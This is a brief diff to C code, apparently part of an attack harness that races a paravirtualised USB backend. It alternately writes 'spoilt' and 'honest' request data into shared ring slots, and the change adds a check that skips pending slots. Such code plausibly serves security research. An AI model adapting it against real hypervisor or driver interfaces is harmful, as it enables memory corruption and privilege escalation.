@@ -70,6 +70,9 @@ static void rewrite(struct attacker *attacker, const struct usbif_urb_request *h
 			uint32_t slot = at % USBIF_URB_RING_SLOTS;
 			uint8_t *shared = ring->page.slots + slot * ring->page.slot_size;
 
+			/* Where an answer lies, it is to be read later. */
+			if ((int32_t)(*answers - at) > 0)
+				continue;
 			memcpy(shared, &spoilt[slot], sizeof(*spoilt));
 			memcpy(shared, &honest[slot], sizeof(*honest));
 		}
